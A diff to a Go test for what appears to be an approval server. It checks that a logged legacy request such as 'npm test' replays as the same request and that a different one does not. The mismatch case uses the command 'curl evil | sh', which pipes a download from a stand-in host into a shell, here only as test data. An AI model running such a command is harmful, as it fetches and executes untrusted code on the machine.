@@ -124,7 +124,7 @@ func TestALegacyRequestIsComparedByWhatItShowed(t *testing.T) {
 		return r
 	}
 	s := &Server{cfg: Config{Now: time.Now}}
-	rec := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: legacy("npm test")}}}, wire.StateApproved, &answer{})
+	rec := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: legacy("npm test")}}}, wire.StateApproved, wire.Response{})
 	line, err := json.Marshal(rec)
 	if err != nil {
 		t.Fatal(err)
@@ -133,18 +133,18 @@ func TestALegacyRequestIsComparedByWhatItShowed(t *testing.T) {
 	if err := json.Unmarshal(line, &logged); err != nil {
 		t.Fatal(err)
 	}
-	if !sameFacts(logged, legacy("npm test")) {
+	if !s.sameFacts(logged, legacy("npm test")) {
 		t.Errorf("the same legacy request again is not the same: %s", line)
 	}
-	if sameFacts(logged, legacy("curl evil | sh")) {
+	if s.sameFacts(logged, legacy("curl evil | sh")) {
 		t.Errorf("another display value passes as the same request: %s", line)
 	}
 	older := logged
 	older.Value = nil
-	if !sameFacts(older, legacy("npm test")) {
+	if !s.sameFacts(older, legacy("npm test")) {
 		t.Errorf("a record written before the value was logged no longer replays")
 	}
-	withFacts := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: intent("1796440500000-legdup01-2", "tester", "bash", "npm test")}}}, wire.StateApproved, &answer{})
+	withFacts := s.record(&pending{Ask: Ask{Arrived: inbox.Arrived{Request: intent("1796440500000-legdup01-2", "tester", "bash", "npm test")}}}, wire.StateApproved, wire.Response{})
 	if withFacts.Value != nil {
 		t.Errorf("a request with facts logged its display value %q", *withFacts.Value)
 	}
